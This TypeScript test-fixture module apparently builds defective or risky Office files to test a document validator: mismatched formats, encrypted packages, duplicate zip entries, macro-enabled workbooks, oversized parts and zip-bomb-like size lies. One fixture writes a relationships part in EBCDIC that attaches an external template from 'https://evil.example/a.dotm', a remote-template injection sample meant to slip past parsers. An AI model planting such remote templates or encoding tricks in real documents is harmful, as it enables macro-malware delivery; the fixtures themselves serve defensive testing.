// Office documents with active or remote content, or with wrong archives: at least one for each detail.

import { toBytes } from '../files/bytes.ts';
import {
  listDocxParts,
  listXlsxParts,
  toContentTypes,
  toRelationship,
  toRelationships,
  writeOffice,
  writeZip,
  type ZipEntry,
} from '../files/office.ts';
import { readRows } from '../files/rows.ts';
import { toBadFiles, type BadFile } from './bad-file.ts';

/** A valid document with one change. */
interface OfficeRow extends Pick<BadFile, 'name' | 'detail'> {
  /** Default: `docx`. */
  readonly extension?: 'docx' | 'xlsx';
  /** Type and attributes of a relationship of the document. */
  readonly relationship?: readonly [string, string];
  /** The content of a paragraph. */
  readonly field?: string;
  /** The main content type, and more entries of that part. */
  readonly type?: string;
  readonly moreTypes?: string;
  /** Added or replaced, with one character per byte or in this encoding. */
  readonly parts?: Readonly<Record<string, string>>;
  readonly encoding?: 'utf16le';
  /** Added even if the name exists. */
  readonly entries?: readonly ZipEntry[];
}

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const docx = listDocxParts();
const withMacros = [...listXlsxParts('xlsm'), { name: 'xl/vbaProject.bin', data: 'VBA' }];

export const badOfficeFiles: readonly BadFile[] = [
  ...readRows<OfficeRow>('office-files.ndjson', import.meta.url).map((row) => ({
    ...row,
    extension: row.extension ?? 'docx',
    make: () => writeRow(row),
  })),
  ...toBadFiles('docx', {
    'content-differs': {
      'a PDF': () => toBytes('%PDF-1.7\n'),
      'a workbook': () => writeOffice('xlsx'),
      'an old Word document': () => Buffer.from('d0cf11e0a1b11ae100', 'hex'),
      'no content types': () => writeZip(docx.slice(1)),
      'a web page before it': () => writeZip(docx, { before: toBytes('<html>') }),
    },
    'office-password': { 'an encrypted document': writeEncryptedDocument },
    'office-structure': {
      'its content types twice': () => writeZip([...docx, docx[0]!]),
      'bytes after its end': () => Buffer.concat([writeZip(docx), toBytes('more')]),
      'two directories': () => Buffer.concat([writeZip(withMacros), writeZip(docx)]),
    },
    'office-embedded-object': { 'a document in it': writeNested },
    'office-xml': { 'relationships in EBCDIC': writeEbcdic },
    'office-too-large': {
      '5,100 parts': () => writeOffice('docx', listManyParts(5100)),
      'a part of 30 MB': () => writeOffice('docx', { 'word/a.bmp': Buffer.alloc(30_000_000) }),
    },
  }),
  ...toBadFiles('xlsx', {
    'content-differs': { 'a Word document': () => writeOffice('docx') },
    'office-macros': { macros: () => writeZip(withMacros) },
    'office-structure': { 'a sheet that is smaller than its declared size': writeSmallSheet },
  }),
];

function writeRow(row: OfficeRow): Buffer {
  const { extension = 'docx', relationship, field, type, moreTypes, encoding, entries } = row;
  const parts = Object.entries(row.parts ?? {}).map(([name, text]) => [
    name,
    encoding ? Buffer.from(`\ufeff${text}`, encoding) : toBytes(text),
  ]);
  return writeOffice(
    extension,
    {
      ...(relationship && {
        'word/_rels/document.xml.rels': toRelationships(toRelationship(...relationship)),
      }),
      ...(field && {
        'word/document.xml': `<w:document xmlns:w="${word}"><w:body><w:p>${field}</w:p></w:body></w:document>`,
      }),
      ...(type && { '[Content_Types].xml': toContentTypes('word/document.xml', type, moreTypes) }),
      ...Object.fromEntries(parts),
    },
    entries,
  );
}

function writeEncryptedDocument(): Buffer {
  const name = Buffer.from('EncryptedPackage', 'utf16le');
  return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), name]);
}

function writeNested(): Buffer {
  return writeOffice('docx', { 'word/embeddings/inner.docx': writeZip(docx) });
}

/** Code page 37, for the characters of these parts. */
function writeEbcdic(): Buffer {
  const letters =
    ' <(+|&!$*);-/,%_>?:#@\'="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.\n';
  const codes = Buffer.from(
    '404c4d4e4f505a5b5c5d5e60616b6c6d6e6f7a7b7c7d7e7f818283848586878889919293949596979899a2a3a4a5a6a7a8a9c1c2c3c4c5c6c7c8c9d1d2d3d4d5d6d7d8d9e2e3e4e5e6e7e8e9f0f1f2f3f4f5f6f7f8f94b25',
    'hex',
  );
  const template = toRelationship(
    'attachedTemplate',
    'Target="https://evil.example/a.dotm" TargetMode="External"',
  );
  const text = toRelationships(template).replace('UTF-8', 'ebcdic-cp-us');
  const bytes = Array.from(text, (letter) => codes[letters.indexOf(letter)] ?? 0x40);
  return writeOffice('docx', { 'word/_rels/document.xml.rels': Buffer.from(bytes) });
}

function listManyParts(count: number): Readonly<Record<string, string>> {
  return Object.fromEntries(
    Array.from({ length: count }, (_, index) => [`word/${index}.xml`, '<a/>']),
  );
}

/** Beside a large picture of numbers that do not repeat, so that the compression ratio stays low. */
function writeSmallSheet(): Buffer {
  const numbers = Array.from({ length: 83_334 }, (_, index) =>
    String(index * 7919).padStart(12, '0'),
  );
  return writeOffice('xlsx', { 'xl/media/a.bmp': numbers.join('') }, [
    { name: 'xl/worksheets/sheet2.xml', data: '<a/>', uncompressedSize: 17 * 2 ** 20 },
  ]);
}
